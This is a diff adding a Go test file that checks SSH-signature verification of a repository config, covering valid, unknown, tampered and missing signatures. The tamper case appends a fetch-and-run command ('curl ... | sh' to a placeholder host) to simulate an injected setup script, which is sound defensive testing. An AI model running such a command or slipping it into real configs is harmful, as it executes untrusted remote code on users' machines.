@@ -0,0 +1,150 @@
+package repoconfig
+
+import (
+	"os"
+	"path/filepath"
+	"strings"
+	"testing"
+
+	"myT-x/internal/config"
+)
+
+// testdata/signed was produced with:
+//
+//	ssh-keygen -t ed25519 -C team@example -f key
+//	ssh-keygen -Y sign -n mytx-repo-config -f key .mytx.yaml
+
+// copySignedRepo copies testdata/signed into a temp repo and returns the repo
+// and the signer's public key line.
+func copySignedRepo(t *testing.T) (string, string) {
+	t.Helper()
+	repo := t.TempDir()
+	for _, name := range []string{FileName, SignatureFileName} {
+		data, err := os.ReadFile(filepath.Join("testdata", "signed", name))
+		if err != nil {
+			t.Fatal(err)
+		}
+		if err := os.WriteFile(filepath.Join(repo, name), data, 0o644); err != nil {
+			t.Fatal(err)
+		}
+	}
+	key, err := os.ReadFile(filepath.Join("testdata", "signed", "signer.pub"))
+	if err != nil {
+		t.Fatal(err)
+	}
+	return repo, strings.TrimSpace(string(key))
+}
+
+func newPolicyService(t *testing.T, policy *config.RepoConfigSettings) (*Service, *recordingEmitter) {
+	t.Helper()
+	configDir := t.TempDir()
+	emitter := &recordingEmitter{}
+	svc := NewService(Deps{
+		ConfigDir:     func() (string, error) { return configDir, nil },
+		Emitter:       emitter,
+		SigningPolicy: func() *config.RepoConfigSettings { return policy },
+	})
+	return svc, emitter
+}
+
+func TestStatusVerifiesSignature(t *testing.T) {
+	repo, signer := copySignedRepo(t)
+	otherKey := "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIG3mlHicDBLZkem6X7/mGQU6XhGu/e+Hh5lFLiUww+sa other@example"
+
+	tests := []struct {
+		name          string
+		policy        *config.RepoConfigSettings
+		tamper        bool
+		wantSignature SignatureState
+		wantSignedBy  string
+		wantError     string
+	}{
+		{name: "no policy", wantSignature: SignatureUnverified},
+		{name: "valid", policy: &config.RepoConfigSettings{SigningKeys: []string{otherKey, signer}}, wantSignature: SignatureValid, wantSignedBy: "team@example"},
+		{name: "unknown signer", policy: &config.RepoConfigSettings{SigningKeys: []string{otherKey}}, wantSignature: SignatureInvalid, wantError: "not allowed"},
+		{name: "tampered", policy: &config.RepoConfigSettings{SigningKeys: []string{signer}}, tamper: true, wantSignature: SignatureInvalid, wantError: "does not match"},
+		{name: "required without keys", policy: &config.RepoConfigSettings{RequireSignature: true}, wantSignature: SignatureInvalid, wantError: "signing_keys is empty"},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			dir := repo
+			if tt.tamper {
+				dir, _ = copySignedRepo(t)
+				f, err := os.OpenFile(filepath.Join(dir, FileName), os.O_APPEND|os.O_WRONLY, 0)
+				if err != nil {
+					t.Fatal(err)
+				}
+				_, _ = f.WriteString("  - curl https://example.invalid | sh\n")
+				_ = f.Close()
+			}
+			svc, _ := newPolicyService(t, tt.policy)
+			status, err := svc.Status(dir)
+			if err != nil {
+				t.Fatalf("Status() error = %v", err)
+			}
+			if status.Signature != tt.wantSignature || status.SignedBy != tt.wantSignedBy {
+				t.Fatalf("Status() signature = %q by %q, want %q by %q", status.Signature, status.SignedBy, tt.wantSignature, tt.wantSignedBy)
+			}
+			if tt.wantError == "" {
+				if status.ConfigError != "" || status.Config == nil {
+					t.Fatalf("Status() = %+v, want usable config", status)
+				}
+				return
+			}
+			if !strings.Contains(status.ConfigError, tt.wantError) || status.Config != nil {
+				t.Fatalf("Status() = %+v, want rejected config containing %q", status, tt.wantError)
+			}
+		})
+	}
+}
+
+func TestResolveRejectsUnsignedWhenRequired(t *testing.T) {
+	repo := t.TempDir()
+	writeRepoConfig(t, repo, "startup_command: npm run dev\n")
+	svc, emitter := newPolicyService(t, &config.RepoConfigSettings{RequireSignature: true})
+	if err := svc.SetTrust(repo, LevelTrusted); err != nil {
+		t.Fatal(err)
+	}
+
+	if cfg := svc.Resolve(repo); cfg != nil {
+		t.Fatalf("Resolve() = %+v, want nil for unsigned config", cfg)
+	}
+	status, _ := svc.Status(repo)
+	if status.Signature != SignatureMissing {
+		t.Fatalf("Status().Signature = %q, want %q", status.Signature, SignatureMissing)
+	}
+	if got := emitter.names(); len(got) != 2 || got[1] != SignatureRejectedEvent {
+		t.Fatalf("events = %v, want %s after %s", got, SignatureRejectedEvent, TrustChangedEvent)
+	}
+}
+
+func TestResolveRejectsDeletedSignatureWhenKeysConfigured(t *testing.T) {
+	repo, signer := copySignedRepo(t)
+	if err := os.Remove(filepath.Join(repo, SignatureFileName)); err != nil {
+		t.Fatal(err)
+	}
+	svc, _ := newPolicyService(t, &config.RepoConfigSettings{SigningKeys: []string{signer}})
+	if err := svc.SetTrust(repo, LevelTrusted); err != nil {
+		t.Fatal(err)
+	}
+
+	if cfg := svc.Resolve(repo); cfg != nil {
+		t.Fatalf("Resolve() = %+v, want nil once the signature is deleted", cfg)
+	}
+	status, _ := svc.Status(repo)
+	if status.Signature != SignatureMissing || !strings.Contains(status.ConfigError, "signing_keys requires a signature") {
+		t.Fatalf("Status() = %+v, want %q with a signing_keys error", status, SignatureMissing)
+	}
+}
+
+func TestResolveHonorsValidSignature(t *testing.T) {
+	repo, signer := copySignedRepo(t)
+	svc, _ := newPolicyService(t, &config.RepoConfigSettings{SigningKeys: []string{signer}, RequireSignature: true})
+	if err := svc.SetTrust(repo, LevelTrusted); err != nil {
+		t.Fatal(err)
+	}
+	cfg := svc.Resolve(repo)
+	if cfg == nil || cfg.StartupCommand != "npm run dev" || len(cfg.SetupScripts) != 1 {
+		t.Fatalf("Resolve() = %+v, want signed config", cfg)
+	}
+}